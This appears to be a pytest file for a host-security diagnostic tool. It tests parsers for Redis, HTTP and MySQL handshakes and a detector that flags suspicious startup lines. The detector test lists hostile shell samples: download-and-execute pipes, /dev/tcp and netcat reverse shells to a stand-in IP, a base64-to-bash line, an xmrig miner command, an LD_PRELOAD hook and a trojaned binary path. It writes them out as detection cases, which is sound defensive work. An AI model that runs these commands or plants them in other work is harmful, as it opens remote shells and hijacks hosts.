"""Parsers of the loopback probes (RESP, HTTP, the MySQL handshake) and the text clues of
startup lines, on recorded and literal data, including garbage."""

import hashlib
from pathlib import Path

import pytest

from hostmedic.analysis.startup import entry_clues, security_signatures, text_clues, unpackaged
from hostmedic.collectors.security.mysql import (
    CACHING_SHA2,
    NATIVE,
    handshake_response,
    parse_handshake,
    scramble,
)
from hostmedic.collectors.security.probes import (
    loopback_target,
    parse_http,
    parse_resp,
    resp_command,
)
from hostmedic.errors import ParseError
from hostmedic.facts.security import FileLine, StartupEntry

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "security"


def test_resp_values_and_errors():
    assert (
        resp_command("CONFIG", "GET", "dir") == b"*3\r\n$6\r\nCONFIG\r\n$3\r\nGET\r\n$3\r\ndir\r\n"
    )
    assert parse_resp(b"+PONG\r\n") == ("PONG", b"")
    assert (
        parse_resp(b"-NOAUTH Authentication required.\r\n")[0] == "-NOAUTH Authentication required."
    )
    assert parse_resp(b"*2\r\n$3\r\ndir\r\n$10\r\n/root/.ssh\r\n") == (["dir", "/root/.ssh"], b"")
    assert parse_resp(b"$-1\r\n") == (None, b"")
    for bad in (b"", b"+PONG", b"$5\r\nab\r\n", b"*99999\r\n", b"?x\r\n", b"HTTP/1.1 400 Bad\r\n"):
        with pytest.raises(ParseError):
            parse_resp(bad)


def test_http_parse():
    status, headers, body = parse_http(
        b"HTTP/1.1 403 Forbidden\r\nX-Jenkins: 2.440.1\r\nContent-Type: text/html\r\n\r\n<html>login"
    )
    assert status == 403 and headers["x-jenkins"] == "2.440.1" and body == "<html>login"
    assert parse_http(b"+PONG\r\n") == (0, {}, "")
    assert parse_http(b"\xff\xfe garbage") == (0, {}, "")


def test_loopback_targets():
    assert loopback_target("0.0.0.0") == "127.0.0.1" and loopback_target("::") == "::1"
    assert loopback_target("127.0.0.53") == "127.0.0.53" and loopback_target("::1") == "::1"
    assert loopback_target("10.0.0.5") is None and loopback_target("203.0.113.9") is None


def test_mariadb_handshake_and_native_scramble_verify_like_the_server():
    hello = parse_handshake((FIXTURES / "mariadb_handshake.bin").read_bytes())
    assert hello.server_version.endswith("MariaDB-0+deb12u1") and hello.plugin == NATIVE
    assert len(hello.scramble) == 20
    token = scramble(NATIVE, "123456", hello.scramble)
    assert token is not None
    # what the server does: it stores SHA1(SHA1(pw)) and checks the token against it
    stored = hashlib.sha1(hashlib.sha1(b"123456").digest()).digest()
    mask = hashlib.sha1(hello.scramble + stored).digest()
    candidate = bytes(a ^ b for a, b in zip(token, mask, strict=True))
    assert hashlib.sha1(candidate).digest() == stored
    assert scramble(NATIVE, "", hello.scramble) == b""
    assert len(scramble(CACHING_SHA2, "x", hello.scramble) or b"") == 32
    assert scramble("unix_socket", "x", hello.scramble) is None
    response = handshake_response("root", b"", NATIVE)
    assert response[32:] == b"root\x00\x00mysql_native_password\x00"


@pytest.mark.parametrize(
    "payload",
    [b"", b"\xff\x15\x04#HY000Host is blocked", b"\x0a5.7", b"\x0a5.7\x00\x01\x02", b"\x09old"],
)
def test_mysql_handshake_garbage(payload):
    with pytest.raises(ParseError):
        parse_handshake(payload)


@pytest.mark.parametrize(
    ("line", "clue"),
    [
        ("curl -fsSL http://203.0.113.7/x.sh | sh", "clue.download_exec"),
        ("wget -q -O- http://x/y | sudo bash", "clue.download_exec"),
        ('bash -c "$(curl -fsSL http://x/i.sh)"', "clue.download_exec"),
        ("wget http://x/m -O /tmp/m && chmod +x /tmp/m", "clue.download_exec"),
        ("echo ZWNobyBoaQ== | base64 -d | bash", "clue.base64_exec"),
        ("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "clue.reverse_shell"),
        ("nc -e /bin/sh 203.0.113.9 4444", "clue.reverse_shell"),
        ("/opt/x/xmrig -o stratum+tcp://pool:3333", "clue.miner"),
        ("export LD_PRELOAD=/usr/lib/libx.so", "clue.preload_hook"),
        ("chattr +ia /usr/bin/.sshd", "clue.immutable_flag"),
        ("cp /usr/bin/dpkgd/ps /bin/ps", "clue.trojan_path"),
    ],
)
def test_text_clues_catch_the_usual_payloads(line, clue):
    assert clue in {c.key for c in text_clues(line)}


@pytest.mark.parametrize(
    "line",
    [
        "17 * * * * root cd / && run-parts --report /etc/cron.hourly",
        "test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
        "curl -fsS https://example.com/health > /dev/null",
        "find /tmp -type f -mtime +7 -delete",
        '[ -x /usr/bin/lesspipe ] && eval "$(SHELL=/bin/sh lesspipe)"',
        "export PATH=/usr/local/bin:$PATH",
        "/usr/bin/certbot renew --quiet --deploy-hook 'systemctl reload nginx'",
    ],
)
def test_text_clues_leave_ordinary_lines_alone(line):
    assert text_clues(line) == []


def test_entry_clues_add_path_signs_once_and_unpackaged():
    entry = StartupEntry(
        "cron",
        FileLine("/etc/crontab", 3, "x"),
        "root",
        "/usr/bin/.sshd -d",
        "/usr/bin/.sshd",
        entry_point=True,
        package_checked=True,
    )
    assert [c.key for c in entry_clues(entry)] == ["clue.trojan_path"]
    assert unpackaged(entry)
    hidden = StartupEntry(
        "systemd", FileLine("/u", 1, "x"), None, "/usr/lib/.x/run", "/usr/lib/.x/run"
    )
    assert [c.key for c in entry_clues(hidden)] == ["clue.hidden_path"]
    assert not unpackaged(hidden)  # not an entry point, no package database asked


def test_signature_data_clue_keys_exist_in_the_catalog():
    from hostmedic.i18n import catalog

    keys = {f"clue.{p['clue']}" for p in security_signatures()["text"]}
    assert keys <= set(catalog("en"))
